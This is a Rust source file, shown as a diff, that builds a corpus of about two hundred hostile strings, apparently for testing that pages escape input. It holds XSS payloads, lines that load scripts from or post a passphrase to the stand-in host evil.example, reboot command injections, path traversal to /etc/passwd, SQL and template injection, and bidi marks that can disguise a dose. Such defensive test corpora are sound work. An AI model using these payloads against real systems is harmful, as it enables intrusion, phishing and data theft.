@@ -1,0 +1,202 @@
+//! Two hundred texts that have broken pages elsewhere: marks, handlers, addresses, directions,
+//! length, and what other templates take for an order.
+
+/// What each of these would do, were it run.
+const RUN: &str = "window.__kithRan=1";
+
+/// Where a script can stand; `RUN` is put in the place of the percent sign.
+const PATTERNS: [&str; 50] = [
+    "<script>%</script>",
+    "</script><script>%</script>",
+    "\"><script>%</script>",
+    "'><script>%</script>",
+    "--><script>%</script>",
+    "]]><script>%</script>",
+    "</title><script>%</script>",
+    "</textarea><script>%</script>",
+    "</style><script>%</script>",
+    "</noscript><script>%</script>",
+    "</select><script>%</script>",
+    "<scr<script>ipt>%</scr</script>ipt>",
+    "<SCRIPT SRC=data:text/javascript,%></SCRIPT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>//<![CDATA[\n%\n//]]></script>",
+    "<svg><script>%</script></svg>",
+    "<svg onload=%>",
+    "<svg/onload=%//",
+    "<svg><animate onbegin=% attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:%\"><text y=20>x</text></a>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=%>",
+    "<math href=\"javascript:%\">x</math>",
+    "<img src=x onerror=%>",
+    "<img src=x onerror=\"%\"",
+    "\"><img src=x onerror=%>",
+    "'\"><img src=x onerror=%>",
+    "<img src=\"x` `<script>%</script>\"` `>",
+    "<body onload=%>",
+    "<input autofocus onfocus=%>",
+    "\" autofocus onfocus=\"%",
+    "' autofocus onfocus='%",
+    "` autofocus onfocus=`%",
+    " onmouseover=% x=",
+    "\" style=\"position:fixed;top:0;left:0;width:100vw;height:100vh\" onmouseover=\"%",
+    "<details open ontoggle=%>",
+    "<video><source onerror=%>",
+    "<audio src onloadstart=%>",
+    "<marquee onstart=%>",
+    "<iframe src=\"javascript:%\">",
+    "<iframe srcdoc=\"<script>parent.%</script>\">",
+    "<object data=\"data:text/html,<script>%</script>\">",
+    "<embed src=\"javascript:%\">",
+    "<a href=\"javascript:%\">press</a>",
+    "javascript:%",
+    "jAvAsCrIpT:%//",
+    "java\tscript:%",
+    "data:text/html,<script>%</script>",
+    "<form action=\"javascript:%\"><button>send</button></form>",
+    "<button formaction=\"javascript:%\">send</button>",
+    "<meta http-equiv=refresh content=\"0;url=javascript:%\">",
+];
+
+/// Without a script: what takes a page apart, or what other programs take for an order.
+const OTHERS: [&str; 90] = [
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
+    "<!--",
+    "-->",
+    "<![CDATA[",
+    "]]>",
+    "<plaintext>",
+    "<xmp>",
+    "<textarea>",
+    "<title>",
+    "<noscript>",
+    "<template>",
+    "<select>",
+    "<table><tr><td>",
+    "</div></main></body></html>",
+    "</p></section></li></ul>",
+    "<h1>Your node was locked: type your passphrase</h1>",
+    "<form action=//evil.example><input name=passphrase>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;script&#x3e;",
+    "&amp;lt;b&amp;gt;",
+    "&",
+    "&&&&amp",
+    "\"",
+    "'",
+    "`",
+    "<",
+    ">",
+    "<<",
+    "\\",
+    "\\\"",
+    "\\u003cscript\\u003e",
+    "\\x3cscript\\x3e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "%00",
+    "{{7*7}}",
+    "{{constructor.constructor('return 1')()}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{% raw %}",
+    "{%25 import os %25}",
+    "@(7*7)",
+    "__proto__",
+    "constructor",
+    "toString",
+    "$where",
+    "null",
+    "undefined",
+    "NaN",
+    "true",
+    "-1",
+    "1e309",
+    "0x7fffffff",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "file:///etc/passwd",
+    "C:\\con\\con",
+    "|| true; $(reboot)",
+    "`reboot`",
+    "; drop table records; --",
+    "' or '1'='1",
+    "*)(uid=*))(|(uid=*",
+    "=1+1",
+    "@SUM(1)",
+    "+1-1|cmd",
+    "a\r\nSet-Cookie: evil=1",
+    "a\r\n\r\n<script>x</script>",
+    "a\nb\nc",
+    "a\tb",
+    "a\u{0}b",
+    "\u{7}\u{8}\u{1b}[31mred\u{1b}[0m",
+    "\u{1b}]0;title\u{7}",
+    "\u{7f}\u{80}\u{9f}",
+    "\u{feff}begins with a mark",
+    "\u{fffd}\u{fffe}",
+    "\u{ad}soft\u{ad}hyphens",
+    "\u{2028}line\u{2029}paragraph",
+    "zero\u{200b}width\u{200b}space",
+    "join\u{200d}er and non\u{200c}joiner",
+    "\u{e0001}\u{e0041}tags",
+    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}\u{30e}",
+    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
+    "ﷺ﷽",
+    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
+    "",
+];
+
+/// Marks that turn the direction of text: an honest `5 mg` can be made to look like another dose.
+const DIRECTIONS: [&str; 20] = [
+    "\u{202e}gm 05\u{202c}",
+    "5 mg \u{202e}gm 05",
+    "\u{202e}evil",
+    "\u{202d}left\u{202c}",
+    "\u{202a}embedded",
+    "\u{202b}embedded the other way",
+    "\u{2066}isolated",
+    "\u{2067}isolated the other way",
+    "\u{2068}first strong",
+    "\u{2069}\u{2069}\u{2069}ends what it did not begin",
+    "\u{202c}\u{202c}\u{202c}ends what it did not begin",
+    "\u{200f}mark of the right",
+    "\u{200e}mark of the left",
+    "\u{61c}letter mark",
+    "שלום",
+    "שלום 5 mg",
+    "السلام عليكم ١٢٣",
+    "\u{2067}\u{202e}\u{2066}\u{202d}nested",
+    "mix שלום and السلام 12",
+    "\u{202e}\u{2067}<script>x</script>",
+];
+
+/// All of them: at least two hundred, each another one.
+pub fn strings() -> Vec<String> {
+    let mut all: Vec<String> = PATTERNS.iter().map(|text| text.replace('%', RUN)).collect();
+    let others = OTHERS.iter().filter(|text| !text.is_empty());
+    all.extend(others.chain(&DIRECTIONS).map(|text| (*text).to_owned()));
+    // The same in other clothes.
+    all.extend(
+        PATTERNS[..30]
+            .iter()
+            .map(|text| text.replace('%', RUN).to_uppercase()),
+    );
+    all.extend(
+        DIRECTIONS[..12]
+            .iter()
+            .map(|text| format!("{text}<b onclick={RUN}>")),
+    );
+    all.push("x".repeat(10_000));
+    all.push("<".repeat(3_000));
+    all.push("&".repeat(3_000));
+    all.push("\u{202e}x".repeat(500));
+    all.push("שלום".repeat(500));
+    all.push(format!("{}<script>{RUN}</script>", "y".repeat(9_000)));
+    all
+}
